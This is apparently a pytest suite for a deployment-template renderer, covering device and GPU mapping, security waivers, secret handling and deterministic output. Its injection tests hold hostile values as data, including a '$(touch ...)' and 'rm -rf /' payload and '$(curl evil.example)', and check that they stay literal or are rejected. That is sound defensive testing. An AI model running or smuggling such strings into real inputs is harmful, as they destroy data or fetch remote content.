"""What rendering decides: devices, GPUs, waivers, secrets, literal values, determinism."""

from __future__ import annotations

import itertools
import os
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import pytest
import yaml

from edgegui.core.templates import (
    FORMATS,
    ParameterError,
    RenderedStack,
    RenderError,
    load_template,
    load_template_file,
    render_stack,
)
from edgegui.core.templates.errors import RequirementError, TemplateError
from tests.core.templates.conftest import (
    BINDINGS,
    VALUES,
    compose_config,
    kubernetes_documents,
    load_inventory,
    validate_kubernetes,
    write_bundle,
)

PLC = BINDINGS["industrial"]["plc_port"]


def deployment(stack: RenderedStack, name: str) -> dict[str, object]:
    return next(
        d
        for d in kubernetes_documents(stack.to_k8s_yaml())
        if d["kind"] == "Deployment" and d["metadata"]["name"] == name
    )


def test_serial_slot_becomes_the_stable_device_in_every_format(
    render_builtin: Callable[..., RenderedStack],
) -> None:
    stack = render_builtin("industrial")
    connector = stack.compose["services"]["modbus-connector"]
    assert connector["devices"] == [{"source": PLC, "target": "/dev/plc", "permissions": "rwm"}]
    assert connector["group_add"] == ["20"]
    assert "ttyUSB" not in stack.to_compose_yaml()
    pod = deployment(stack, "modbus-connector")["spec"]["template"]  # type: ignore[index]
    assert pod["metadata"]["annotations"]["edgegui.io/device.plc_port"] == PLC
    assert pod["spec"]["containers"][0]["resources"]["limits"]["edgegui.io/plc_port"] == "1"
    assert pod["spec"]["securityContext"]["supplementalGroups"] == [20]
    swarm_notes = stack.limitations("swarm")
    assert any(
        "cannot use host devices (moby/swarmkit#1244)" in n and PLC in n for n in swarm_notes
    )


def test_inventory_binds_slots_and_checks_requirements() -> None:
    stack = render_stack("ai", inventory=load_inventory("gpu"))
    request = stack.compose["services"]["inference-server"]["deploy"]["resources"]["reservations"]
    assert request == {
        "devices": [{"driver": "nvidia", "capabilities": ["gpu"], "device_ids": ["0"]}]
    }
    with pytest.raises(RequirementError, match="ai: needs x86_64 or aarch64, the device is armv7l"):
        render_stack("ai", inventory={**load_inventory("gpu"), "system": {"arch": "armv7l"}})
    with pytest.raises(RequirementError, match="needs 8192 MiB of memory, the device has 4096 MiB"):
        render_stack(
            "ai",
            inventory={
                **load_inventory("gpu"),
                "system": {"arch": "x86_64", "mem_total_mib": 4096},
            },
        )


def test_add_ons_add_their_needs_to_the_template_s() -> None:
    with pytest.raises(RequirementError, match="needs 1152 MiB of memory"):
        render_stack(
            "industrial",
            bindings=BINDINGS["industrial"],
            addons=["offline-buffer"],
            inventory={
                **load_inventory("gateway"),
                "system": {"arch": "x86_64", "mem_total_mib": 1100},
            },
        )


def test_jetson_gpu_uses_its_runtime(tmp_path: Path) -> None:
    stack = render_stack("ai", inventory=load_inventory("jetson"))
    assert stack.compose["services"]["inference-server"]["runtime"] == "nvidia"
    assert "deploy" not in stack.compose["services"]["inference-server"]
    pod = deployment(stack, "inference-server")["spec"]["template"]["spec"]  # type: ignore[index]
    assert pod["runtimeClassName"] == "nvidia"
    assert "nvidia.com/gpu" not in pod["containers"][0]["resources"]["limits"]
    assert any("default-runtime" in n for n in stack.limitations("swarm"))
    checked = compose_config(write_bundle(stack, "compose", tmp_path), "-q")
    assert checked.returncode == 0, checked.stderr


def test_nvidia_gpu_in_kubernetes_and_swarm(render_builtin: Callable[..., RenderedStack]) -> None:
    stack = render_builtin("ai")
    pod = deployment(stack, "inference-server")["spec"]["template"]["spec"]  # type: ignore[index]
    assert pod["containers"][0]["resources"]["limits"]["nvidia.com/gpu"] == "1"
    assert pod["nodeSelector"] == {"edgegui.gpu": "nvidia", "nvidia.com/gpu.present": "true"}
    swarm = yaml.safe_load(stack.to_swarm_yaml())["services"]["inference-server"]["deploy"]
    assert "node.labels.edgegui.gpu == nvidia" in swarm["placement"]["constraints"]
    assert swarm["resources"]["reservations"]["generic_resources"] == [
        {"discrete_resource_spec": {"kind": "NVIDIA-GPU", "value": 1}}
    ]


@pytest.mark.parametrize("fmt", FORMATS)
def test_security_waivers_are_shown_everywhere(
    fmt: str, render_builtin: Callable[..., RenderedStack]
) -> None:
    stack = render_builtin("telecom")
    text = stack.render(fmt).text
    header = list(itertools.takewhile(lambda line: line.startswith("#"), text.splitlines()))
    start = header.index("# Security waivers (written reasons for weaker settings):") + 1
    waivers = list(itertools.takewhile(lambda line: line.startswith("#   - "), header[start:]))
    assert len(waivers) == 2
    assert waivers[0].startswith(
        "#   - virtual-ran: shares the host's network stack (host_network): "
    )
    assert waivers[1].startswith(
        "#   - virtual-ran: runs privileged (all devices and capabilities) (privileged): "
    )
    for rule in ("privileged", "host_network"):
        assert f"io.edgegui.waiver.{rule}:" in text  # label (Compose, Swarm) or annotation (k8s)


def test_privileged_host_network_service_in_kubernetes(
    render_builtin: Callable[..., RenderedStack],
) -> None:
    pod = deployment(render_builtin("telecom"), "virtual-ran")["spec"]["template"]["spec"]  # type: ignore[index]
    assert pod["hostNetwork"] is True and pod["dnsPolicy"] == "ClusterFirstWithHostNet"
    assert pod["containers"][0]["securityContext"] == {
        "readOnlyRootFilesystem": True,
        "privileged": True,
    }
    mec = deployment(render_builtin("telecom"), "mobile-edge-compute")["spec"]["template"]["spec"]  # type: ignore[index]
    security = mec["containers"][0]["securityContext"]
    assert security["allowPrivilegeEscalation"] is False
    assert security["capabilities"] == {"drop": ["ALL"]}
    assert mec["securityContext"]["runAsNonRoot"] is True
    assert mec["automountServiceAccountToken"] is False
    assert mec["containers"][0]["ports"] == [
        {"containerPort": 9000, "hostIP": "127.0.0.1", "hostPort": 9000, "protocol": "TCP"}
    ]


SECRET = "S3cr3t-Value-that-must-not-leak"


def test_secret_values_stay_out_of_every_rendered_file(
    render_builtin: Callable[..., RenderedStack],
) -> None:
    stack = render_builtin("retail", ("monitoring", "offline-buffer"), CLOUD_API_TOKEN=SECRET)
    for fmt in FORMATS:
        assert SECRET not in stack.render(fmt).text
        assert "cloud-api-token" in stack.render(fmt).text
    assert SECRET not in repr(stack) and SECRET not in str(stack.compose)
    assert stack.secret_files == {"cloud-api-token": SECRET}
    assert stack.secret_owners == {"cloud-api-token": "65534:65534"}
    assert stack.bundle("compose")["secrets/cloud-api-token"] == (SECRET, 0o600)
    sync = stack.compose["services"]["inventory-sync"]
    assert sync["secrets"] == [{"source": "cloud-api-token", "target": "cloud-api-token"}]
    assert stack.compose["secrets"] == {"cloud-api-token": {"file": "./secrets/cloud-api-token"}}
    swarm = yaml.safe_load(stack.to_swarm_yaml())["services"]["inventory-sync"]["secrets"]
    assert swarm == [
        {
            "source": "cloud-api-token",
            "target": "cloud-api-token",
            "uid": "65534",
            "gid": "65534",
            "mode": 0o400,
        }
    ]


def test_generated_secrets_change_nothing_in_the_rendered_text(
    render_builtin: Callable[..., RenderedStack],
) -> None:
    first, second = render_builtin("industrial"), render_builtin("industrial")
    assert (
        first.secret_files["dashboard-admin-password"]
        != second.secret_files["dashboard-admin-password"]
    )
    for fmt in FORMATS:
        assert first.render(fmt).text == second.render(fmt).text


def test_missing_secret_is_a_clear_error() -> None:
    values = {"SCANNER_GID": "105"}
    with pytest.raises(
        ParameterError, match="retail: no value for required parameter CLOUD_API_TOKEN"
    ):
        render_stack("retail", values, BINDINGS["retail"])


INJECTION_TEMPLATE = """\
schema_version: 1
metadata: {name: probe, title: Injection probe, description: Literal values., version: 1.0.0}
parameters:
  GREETING: {type: string, default: hello, help: Any text.}
stack:
  services:
    echo:
      image: busybox:1.36
      command: [echo, "${GREETING}", "$$HOME"]
      environment:
        GREETING: ${GREETING}
"""


def test_hostile_text_stays_literal_in_every_format(tmp_path: Path) -> None:
    template_path = tmp_path / "probe.yaml"
    template_path.write_text(INJECTION_TEMPLATE)
    canary = tmp_path / "pwned"
    hostile = f"$(touch {canary}) `touch {canary}` ${{HOME}} $HOME; rm -rf / #"
    stack = render_stack(load_template_file(template_path), {"GREETING": hostile})
    bundle_dir = tmp_path / "compose"
    main = write_bundle(stack, "compose", bundle_dir)
    result = compose_config(main, "--format", "json")
    assert result.returncode == 0, result.stderr
    service = yaml.safe_load(result.stdout)["services"]["echo"]
    # `config` prints the file form, where $$ is one literal $: nothing was interpolated.
    assert service["environment"]["GREETING"] == hostile.replace("$", "$$")
    assert service["command"] == ["echo", hostile.replace("$", "$$"), "$$HOME"]
    documents = kubernetes_documents(stack.to_k8s_yaml())
    validate_kubernetes(stack.to_k8s_yaml())
    config_map = next(d for d in documents if d["kind"] == "ConfigMap")
    assert config_map["data"]["GREETING"] == hostile  # envFrom values are never expanded
    container = next(d for d in documents if d["kind"] == "Deployment")["spec"]["template"]["spec"][
        "containers"
    ][0]
    assert container["args"][1] == hostile.replace(
        "$(", "$$("
    )  # Kubernetes reads $$( as a literal $(
    assert not canary.exists()


def test_literal_dollars_in_templates(render_builtin: Callable[..., RenderedStack]) -> None:
    stack = render_builtin("industrial", ("monitoring",))
    exporter = stack.compose["services"]["node-exporter"]["command"][2]
    assert exporter == "--collector.filesystem.mount-points-exclude=^/(sys|proc|dev|host|etc)($|/)"
    assert "($$|/)" in stack.to_compose_yaml()


def test_values_from_set_that_weaken_hardening_are_refused(tmp_path: Path) -> None:
    path = tmp_path / "runas.yaml"
    path.write_text(
        INJECTION_TEMPLATE.replace("      command:", "      user: ${GREETING}\n      command:")
    )
    with pytest.raises(
        RenderError,
        match="probe: service echo: with these values user breaks the hardening rule 'non_root'",
    ):
        render_stack(load_template_file(path), {"GREETING": "root"})


def test_add_on_names_must_not_collide(tmp_path: Path) -> None:
    addon = tmp_path / "clash.yaml"
    text = load_template("offline-buffer", kind="addon").path.read_text()
    addon.write_text(
        text.replace("name: offline-buffer", "name: clash").replace("MAX_BUFFER_SIZE", "DEVICE_ID")
    )
    with pytest.raises(
        RenderError, match="parameter DEVICE_ID is defined by both industrial and clash"
    ):
        render_stack(
            "industrial", bindings=BINDINGS["industrial"], addons=[load_template_file(addon)]
        )
    with pytest.raises(RenderError, match="add-on is requested twice"):
        render_stack(
            "industrial", bindings=BINDINGS["industrial"], addons=["monitoring", "monitoring"]
        )


def test_volume_sizes_become_claims(render_builtin: Callable[..., RenderedStack]) -> None:
    stack = render_builtin(
        "industrial", ("offline-buffer",), TIMESERIES_SIZE="40G", MAX_BUFFER_SIZE="512M"
    )
    claims = {
        d["metadata"]["name"]: d["spec"]["resources"]["requests"]["storage"]
        for d in kubernetes_documents(stack.to_k8s_yaml())
        if d["kind"] == "PersistentVolumeClaim"
    }
    assert claims == {"timeseries": "40Gi", "offline-buffer": "512Mi"}


def test_rendering_is_deterministic(render_builtin: Callable[..., RenderedStack]) -> None:
    a = render_stack(
        "retail",
        {"CLOUD_API_TOKEN": "x", "SCANNER_GID": "105", "STORE_ID": "s-9"},
        BINDINGS["retail"],
    )
    b = render_stack(
        "retail",
        {"STORE_ID": "s-9", "SCANNER_GID": "105", "CLOUD_API_TOKEN": "x"},
        BINDINGS["retail"],
    )
    for fmt in FORMATS:
        assert a.render(fmt).text.encode() == b.render(fmt).text.encode()


RENDER_SCRIPT = """
import sys
from edgegui.core.templates import render_stack
from tests.core.templates.conftest import BINDINGS, VALUES
addons = ["monitoring", "offline-buffer"]
stack = render_stack("industrial", VALUES["industrial"], BINDINGS["industrial"], addons=addons)
sys.stdout.write("".join(stack.render(f).text for f in ("compose", "swarm", "k8s")))
"""


def test_rendering_is_deterministic_across_processes() -> None:
    """Same inputs, same bytes, whatever the interpreter's hash seed."""
    outputs = set()
    root = Path(__file__).resolve().parents[3]
    for seed in ("1", "2"):
        env = {**os.environ, "PYTHONHASHSEED": seed, "PYTHONPATH": str(root)}
        result = subprocess.run(
            [sys.executable, "-c", RENDER_SCRIPT],
            capture_output=True,
            env=env,
            cwd=root,
            timeout=120,
            check=True,
        )
        outputs.add(result.stdout)
    assert len(outputs) == 1


def test_unknown_format_and_values_are_one_line() -> None:
    stack = render_stack("telecom", VALUES["telecom"], BINDINGS["telecom"])
    with pytest.raises(RenderError, match=r"unknown format 'helm' \(use compose, swarm, k8s\)"):
        stack.render("helm")
    with pytest.raises(
        ParameterError, match="telecom: parameter MEC_BIND: must be an IPv4 or IPv6 address"
    ):
        render_stack("telecom", {"MEC_BIND": "$(curl evil.example)"})


def test_services_run_under_an_init_unless_waived(
    tmp_path: Path, render_builtin: Callable[..., RenderedStack]
) -> None:
    stack = render_builtin("retail")
    assert all(body["init"] is True for body in stack.compose["services"].values())
    assert yaml.safe_load(stack.to_swarm_yaml())["services"]["pos-service"]["init"] is True
    pod = deployment(stack, "pos-service")["spec"]["template"]["spec"]  # type: ignore[index]
    assert pod["shareProcessNamespace"] is True  # the pause process is PID 1 there
    path = tmp_path / "noinit.yaml"
    waiver = "      init: false\n      x-edgegui:\n        waivers: {init: its PID 1 is tini}\n"
    path.write_text(INJECTION_TEMPLATE.replace("      command:", waiver + "      command:"))
    echo = render_stack(load_template_file(path)).compose["services"]["echo"]
    assert echo["init"] is False
    assert echo["labels"]["io.edgegui.waiver.init"] == "its PID 1 is tini"
    path.write_text(
        INJECTION_TEMPLATE.replace("      command:", "      init: false\n      command:")
    )
    with pytest.raises(TemplateError, match="init"):
        load_template_file(path)
